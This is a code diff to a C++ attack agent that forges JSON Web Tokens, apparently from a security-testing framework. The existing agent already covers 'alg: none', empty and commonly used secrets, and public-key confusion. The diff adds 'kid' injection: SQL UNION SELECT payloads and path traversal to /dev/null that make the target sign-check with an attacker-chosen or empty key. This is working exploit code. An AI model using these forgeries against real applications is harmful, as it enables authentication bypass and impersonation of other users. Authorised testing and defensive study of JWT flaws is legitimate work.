@@ -1,7 +1,8 @@
 // jwt-forgery: takes its own token and makes it another's: claims changed under the old signature,
 // no signature and "alg": "none", an empty key, keys that everybody uses, found by signing what the
-// token says and comparing, and a public key as if it were a shared one (RFC 8725, 2.1 and 3.1;
-// OWASP JSON Web Token Cheat Sheet). A token for renewing is renewed in another's name.
+// token says and comparing, a public key as if it were a shared one, and a key id that leads the
+// app to a key of the attacker's (RFC 8725, 2.1, 3.1 and 3.10; OWASP JSON Web Token Cheat Sheet). A
+// token for renewing is renewed in another's name.
 #include <algorithm>
 
 #include "core/attack/every_agent.h"
@@ -32,6 +33,19 @@ constexpr std::string_view kKeys =
     "api-secret,private,private-key,privatekey,signing-key,signing-secret,hmac-secret,"
     "hs256,foo,bar,foobar,example,demo,node,express,shhh,shhhh";
 constexpr int kIdsAround = 4;
+
+// Where "kid" ends up in SQL or in a path, the key is what the attacker says, or an empty file
+// (RFC 8725, 3.10). The app may take it for text or for hexadecimal digits.
+constexpr std::string_view kInjectedKey = "6b6579206f6620746865206174746163";
+constexpr std::string_view kItsBytes = "key of the attac";
+struct KeyIdInSql {
+    std::string_view before;
+    int columns;
+};
+constexpr KeyIdInSql kSqlKeyIds[] = {{"' UNION SELECT ", 1},  {"' UNION SELECT ", 2},
+                                     {"' UNION SELECT ", 3},  {"-1 UNION SELECT ", 1},
+                                     {"-1 UNION SELECT ", 2}, {"\" UNION SELECT ", 1}};
+constexpr std::string_view kEmptyFiles[] = {"/dev/null", "../../../../../../../../dev/null"};
 
 class JwtForgery final : public Agent {
     void run(Target& target) override {
@@ -156,7 +170,26 @@ class JwtForgery final : public Agent {
             forged.signature.clear();
             all.push_back(forged.write());
         }
+        if (member(own.header, "kid")) append_key_ids(own, claims, all);
         return all;
+    }
+
+    static void append_key_ids(JwtText const& own, std::string const& claims,
+                               std::vector<std::string>& all) {
+        auto const add = [&](std::string const& id, std::string_view key) {
+            JwtText forged{with_member(own.header, "kid", json_string(id)), claims, ""};
+            forged.signature = hmac_signature(forged, key);
+            all.push_back(forged.write());
+        };
+        for (auto const& [before, columns] : kSqlKeyIds) {
+            std::string id(before);
+            for (int i = 0; i < columns; ++i)
+                id += (i > 0 ? ",'" : "'") + std::string(kInjectedKey) + "'";
+            id += " -- ";
+            add(id, kInjectedKey);
+            add(id, kItsBytes);
+        }
+        for (std::string_view file : kEmptyFiles) add(std::string(file), "");
     }
 };
 
